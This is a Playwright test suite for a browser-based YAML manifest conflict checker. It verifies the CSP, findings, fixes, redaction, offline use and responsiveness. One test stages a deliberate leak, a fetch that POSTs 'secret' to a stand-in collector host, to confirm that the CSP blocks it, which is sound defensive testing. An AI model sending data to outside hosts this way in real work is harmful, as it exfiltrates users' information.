// The page's promises, checked in real headless Chromium: nothing leaves the
// origin, the example's conflicts are found (and fixed, and redacted, when the
// build has those features), the offline file works, big pastes stay smooth.
import { mkdirSync } from "node:fs";
import { expect, test } from "@playwright/test";
import {
  COLOR_SCHEMES,
  EXAMPLE,
  EXAMPLE_SECRETS,
  VIEWPORTS,
  capabilities,
  largeManifest,
  recordViolations,
  registeredRules,
  waitAnalyzed,
  waitEngines,
  watchForeignTraffic,
} from "./helpers.js";

const CSP =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; " +
  "connect-src 'self' https://api.openai.com https://api.anthropic.com http://localhost:11434 " +
  "http://127.0.0.1:11434 http://localhost:1234 http://127.0.0.1:1234; worker-src 'self'; " +
  "base-uri 'none'; form-action 'none'";

/** Findings the example must produce, by rule name, whenever the build registers the rule. */
const EXPECTED_FOR_EXAMPLE = ["duplicate-tls-host", "nodeport-collision"];

test.use({ permissions: ["clipboard-read", "clipboard-write"] });

test("the CSP is exactly the documented policy, with no-referrer", async ({ page, request }) => {
  await page.goto("/");
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute("content", CSP);
  await expect(page.locator('meta[name="referrer"]')).toHaveAttribute("content", "no-referrer");
  const html = await (await request.get("/")).text();
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/); // no inline scripts
  expect(html).not.toMatch(/<style|\sstyle=|\son[a-z]+=/); // no inline styles or handlers
});

test("a full flow sends nothing to any other origin; a foreign fetch is blocked by CSP", async ({
  page,
  context,
  baseURL,
}) => {
  const origin = new URL(baseURL).origin;
  const traffic = await watchForeignTraffic(context, origin);
  await recordViolations(context);
  const sameOrigin = [];
  context.on("request", (r) => sameOrigin.push(r.url()));

  await page.goto("/");
  // Type only once main.js and the wasm are ready and the preloaded example is analyzed
  // (filling earlier raced the page's start-up); empty the editor first so the wait
  // after the fill can only be met by the analysis of the filled text.
  await waitAnalyzed(page, EXAMPLE.length);
  await page.getByTestId("input").fill("");
  await waitAnalyzed(page, 0);
  await page.getByTestId("input").fill(EXAMPLE);
  await waitAnalyzed(page, EXAMPLE.length);
  const caps = await capabilities(page);

  if (caps.has("redact")) {
    await page.getByRole("tab", { name: "Redacted" }).click();
    await expect(page.getByTestId("redacted")).not.toBeEmpty();
  }
  if (caps.has("fix")) {
    await page.getByRole("tab", { name: "Fix" }).click();
    const strategies = await page.getByTestId("strategy").locator("option").evaluateAll((o) => o.map((x) => x.value));
    for (const strategy of strategies) {
      await page.getByTestId("strategy").selectOption(strategy);
      await expect(page.getByTestId("verification")).not.toBeEmpty();
    }
    await page.getByTestId("strategy").selectOption(strategies[0]);
    await expect(page.getByTestId("diff")).not.toBeEmpty();
    await page.getByTestId("copy-diff").click();
    await page.getByTestId("copy-patched").click();
    const download = page.waitForEvent("download");
    await page.getByTestId("download-patched").click();
    await download;
  }
  await page.getByRole("tab", { name: "Verify it yourself" }).click();
  await expect(page.locator("#csp-list li")).toHaveCount(8);

  // The deliberate leak: CSP must stop it before it reaches the network.
  const outcome = await page.evaluate(() =>
    fetch("https://collector.invalid/upload", { method: "POST", body: "secret" }).then(
      () => "sent",
      () => "blocked",
    ),
  );
  expect(outcome).toBe("blocked");
  await expect
    .poll(() => page.evaluate(() => window.__violations.map((v) => v.directive)))
    .toContain("connect-src");

  expect(traffic.responses, "no foreign origin ever answered").toEqual([]);
  expect(traffic.routed, "no foreign request got past the CSP to the network layer").toEqual([]);
  expect(traffic.requests).toEqual([]);
  // The page did load its own parts, the worker and the wasm (so the listeners see worker traffic).
  expect(sameOrigin.some((u) => u.endsWith("/worker.js"))).toBe(true);
  expect(sameOrigin.some((u) => u.endsWith(".wasm"))).toBe(true);
});

test("the example's findings are grouped by severity and a click selects the line", async ({ page }) => {
  await page.goto("/");
  await waitAnalyzed(page, EXAMPLE.length); // the example is preloaded
  await expect(page.locator(".file-tab").first()).toHaveText("seed-conflict.yaml");
  const rules = await registeredRules(page);
  for (const name of EXPECTED_FOR_EXAMPLE.filter((n) => rules.includes(n))) {
    await expect(page.locator(`[data-testid="finding"][data-name="${name}"]`).first()).toBeVisible();
  }
  for (const finding of await page.getByTestId("finding").all()) {
    await expect(finding.locator(".location")).toHaveText(/^seed-conflict\.yaml:\d+:\d+$/);
    expect(["error", "warning", "info"]).toContain(await finding.getAttribute("data-severity"));
  }

  // A syntax error in a second file: reported with that file's name, and a click selects its line.
  await page.getByRole("button", { name: "New file" }).click();
  const broken = "apiVersion: v1\nkind: Service\nmetadata:\n  name: x\nspec: [\n";
  await page.getByTestId("input").fill(broken);
  await waitAnalyzed(page, EXAMPLE.length + broken.length);
  const syntax = page.locator('[data-testid="finding"][data-name="yaml-syntax"]');
  await expect(syntax).toHaveCount(1);
  const location = await syntax.locator(".location").textContent();
  expect(location).toMatch(/^input\.yaml:\d+:\d+$/);
  const line = Number(location.split(":")[1]);
  await page.getByRole("button", { name: "seed-conflict.yaml", exact: true }).click();
  await syntax.locator(".finding-main").click();
  await expect(page.getByRole("button", { name: "input.yaml", exact: true })).toHaveAttribute("aria-current", "true");
  const selected = await page.getByTestId("input").evaluate((t) => t.value.slice(t.selectionStart, t.selectionEnd));
  expect(selected).toBe(broken.split("\n")[line - 1]);

  // Rule docs ship with the page.
  await syntax.getByRole("button", { name: /^MM001 docs: documentation for/ }).click();
  await expect(page.locator("#rule-dialog")).toBeVisible();
  await expect(page.locator("#rule-docs")).toContainText("What it does");
  await page.keyboard.press("Escape");
});

test("fix: diff, patched manifest and verification; the clipboard holds the diff", async ({ page }) => {
  await page.goto("/");
  await waitAnalyzed(page, EXAMPLE.length);
  test.skip(!(await capabilities(page)).has("fix"), "this build has no fix yet");
  await page.getByRole("tab", { name: "Fix" }).click();
  await expect(page.getByTestId("verification")).toContainText(/conflict-free/i);
  const diff = await page.getByTestId("diff").textContent();
  expect(diff).toMatch(/^--- a\/seed-conflict\.yaml\n\+\+\+ b\/seed-conflict\.yaml\n@@ /);
  await expect(page.getByTestId("patched")).not.toBeEmpty();
  await page.getByTestId("copy-diff").click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(diff);
  const download = page.waitForEvent("download");
  await page.getByTestId("download-diff").click();
  expect((await download).suggestedFilename()).toMatch(/\.patch$/);
});

test("the redacted view contains none of the example's secrets", async ({ page }) => {
  await page.goto("/");
  await waitAnalyzed(page, EXAMPLE.length);
  test.skip(!(await capabilities(page)).has("redact"), "this build has no redaction yet");
  await page.getByRole("tab", { name: "Redacted" }).click();
  await waitEngines(page, EXAMPLE.length);
  const redacted = await page.getByTestId("redacted").textContent();
  expect(redacted.length).toBeGreaterThan(EXAMPLE.length / 2);
  for (const secret of EXAMPLE_SECRETS) expect(redacted).not.toContain(secret);
});

test("the single-file build works from file:// with no network", async ({ browser }) => {
  const context = await browser.newContext();
  const requests = [];
  context.on("request", (r) => requests.push(r.url()));
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e.message));
  await page.goto(new URL("../../dist/meshmend.html", import.meta.url).href);
  await waitAnalyzed(page, EXAMPLE.length);
  await expect(page.locator("#findings-summary")).toContainText(/resources? from 1 file/);
  await page.getByTestId("input").fill("kind: Gateway\nspec: [\n");
  await expect(page.locator('[data-testid="finding"][data-name="yaml-syntax"]')).toHaveCount(1);
  expect(requests.filter((u) => /^https?:/.test(u))).toEqual([]);
  expect(errors).toEqual([]);
  await context.close();
});

test("a 5 MB paste keeps the page responsive and produces results", async ({ page }) => {
  await page.goto("/");
  await waitAnalyzed(page, EXAMPLE.length);
  const big = largeManifest(5 * 1024 * 1024);
  // A real paste: put 5 MB on the clipboard, then Ctrl+V into the editor.
  await page.evaluate((text) => navigator.clipboard.writeText(text), big);
  await page.getByTestId("input").focus();
  await page.keyboard.press("ControlOrMeta+A");
  await page.keyboard.press("ControlOrMeta+V");
  // While the worker analyzes, the main thread still answers timers and keystrokes.
  await expect(page.locator("#status")).toHaveClass(/busy/, { timeout: 10_000 });
  const lag = await page.evaluate(
    () => new Promise((resolve) => {
      const start = performance.now();
      setTimeout(() => resolve(performance.now() - start), 0);
    }),
  );
  console.log(`5 MB paste: timer lag while the worker analyzes: ${lag.toFixed(1)} ms`);
  expect(lag).toBeLessThan(250);
  const typed = "\n# typed while analyzing";
  const started = Date.now();
  await page.getByTestId("input").press("End");
  await page.getByTestId("input").pressSequentially(typed);
  const perKey = (Date.now() - started) / (typed.length + 1);
  console.log(`5 MB paste: ${perKey.toFixed(1)} ms per keystroke while analyzing`);
  expect(perKey).toBeLessThan(200);
  expect(await page.getByTestId("input").evaluate((t) => t.value.includes("# typed while analyzing"))).toBe(true);
  await expect(page.locator("#window-bar")).toContainText("All of it is analyzed");
  const total = big.length + typed.length;
  await waitAnalyzed(page, total, 90_000);
  await expect(page.locator("#findings-summary")).toContainText(/from 1 file/);
});

test("screenshots: light and dark, laptop and phone", async ({ browser }, testInfo) => {
  mkdirSync("test-results/screenshots", { recursive: true });
  for (const colorScheme of COLOR_SCHEMES) {
    for (const [device, viewport] of VIEWPORTS) {
      const context = await browser.newContext({ colorScheme, viewport, baseURL: testInfo.project.use.baseURL });
      const page = await context.newPage();
      await page.goto("/");
      await waitAnalyzed(page, EXAMPLE.length);
      const first = page.getByTestId("finding").first();
      if (await first.count()) await first.locator(".finding-main").click();
      const path = `test-results/screenshots/${device}-${colorScheme}.png`;
      await page.screenshot({ path, fullPage: device === "phone" });
      await testInfo.attach(`${device}-${colorScheme}`, { path, contentType: "image/png" });
      if (device === "laptop" && (await capabilities(page)).has("fix")) {
        await page.getByRole("tab", { name: "Fix" }).click();
        await expect(page.getByTestId("diff")).not.toBeEmpty();
        const fixPath = `test-results/screenshots/${device}-${colorScheme}-fix.png`;
        await page.screenshot({ path: fixPath });
        await testInfo.attach(`${device}-${colorScheme}-fix`, { path: fixPath, contentType: "image/png" });
      }
      await context.close();
    }
  }
});

test("several opened files keep their names in findings and diffs; shortcuts work", async ({ page }) => {
  await page.goto("/");
  await waitAnalyzed(page, EXAMPLE.length);
  const [gateways, rest] = EXAMPLE.split("---\napiVersion: networking.istio.io/v1beta1\nkind: VirtualService");
  const second = `apiVersion: networking.istio.io/v1beta1\nkind: VirtualService${rest}`;
  await page.getByTestId("file-input").setInputFiles([
    { name: "gateways.yaml", mimeType: "application/yaml", buffer: Buffer.from(gateways) },
    { name: "services.yaml", mimeType: "application/yaml", buffer: Buffer.from(second) },
  ]);
  await waitAnalyzed(page, gateways.length + second.length);
  await expect(page.locator(".file-tab")).toHaveText(["gateways.yaml", "services.yaml"]);
  const locations = await page.locator('[data-testid="finding"] .location').allTextContents();
  expect(locations.length).toBeGreaterThan(0);
  expect(locations.every((l) => /^(gateways|services)\.yaml:\d+:\d+$/.test(l))).toBe(true);
  const caps = await capabilities(page);
  if (caps.has("fix")) {
    await page.getByRole("tab", { name: "Fix" }).click();
    await waitEngines(page, gateways.length + second.length);
    const diff = await page.getByTestId("diff").textContent();
    expect(diff).toContain("--- a/gateways.yaml");
    expect(diff).not.toContain("seed-conflict.yaml");
  }
  // `?` opens the help (outside text fields); Ctrl+S downloads.
  await page.locator("body").click({ position: { x: 5, y: 5 } });
  await page.keyboard.press("?");
  await expect(page.locator("#help-dialog")).toBeVisible();
  await expect(page.locator("#rule-index li").first()).toContainText("MM001");
  await page.keyboard.press("Escape");
  const download = page.waitForEvent("download");
  await page.keyboard.press("ControlOrMeta+s");
  expect((await download).suggestedFilename()).toMatch(/\.ya?ml$/);
});
